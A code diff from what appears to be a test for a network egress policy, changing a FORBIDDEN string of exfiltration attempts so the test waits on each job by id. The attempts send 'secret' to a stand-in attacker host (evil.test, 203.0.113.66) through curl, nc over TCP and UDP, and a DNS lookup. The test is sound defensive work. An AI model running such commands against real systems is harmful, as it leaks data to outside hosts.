@@ -15,12 +15,18 @@ import { until } from "./until.ts";
 /** Allows the sites that {@link works} and {@link Transfer} use. */
 export const POLICY = "site.test\nraw.test:9000\nraw.test:9000/udp\n";
 
-/** Tries to get something out in every way that the attacker listens to, all at once. */
-const FORBIDDEN =
-  "{ curl -s -m 1 -d secret --resolve evil.test:80:203.0.113.66 http://evil.test/ & " +
-  "curl -s -m 1 -d secret --resolve evil.test:443:203.0.113.66 https://evil.test/ & " +
-  "echo secret | nc -N -w 1 203.0.113.66 9000 & echo secret | nc -u -w 1 203.0.113.66 9000 & " +
-  "dig +tries=1 +time=1 secret.evil.test & wait $(jobs -p | tail -n 5); } >/dev/null 2>&1; true";
+/**
+ * Tries to get something out in every way that the attacker listens to, all at once. They are waited for by id: the
+ * shell forgets jobs that have ended, so that counting its jobs could wait for a transfer that a test has open.
+ */
+const FORBIDDEN = "{ " + [
+  "curl -s -m 1 -d secret --resolve evil.test:80:203.0.113.66 http://evil.test/",
+  "curl -s -m 1 -d secret --resolve evil.test:443:203.0.113.66 https://evil.test/",
+  "echo secret | nc -N -w 1 203.0.113.66 9000",
+  "echo secret | nc -u -w 1 203.0.113.66 9000",
+  "dig +tries=1 +time=1 secret.evil.test",
+].map((attempt, n) => `{ ${attempt}; } & p${n}=$!; `).join("") +
+  "wait $p0 $p1 $p2 $p3 $p4; } >/dev/null 2>&1; true";
 
 /** Says `ping` to the raw server by UDP and prints its answer. */
 export const PING =
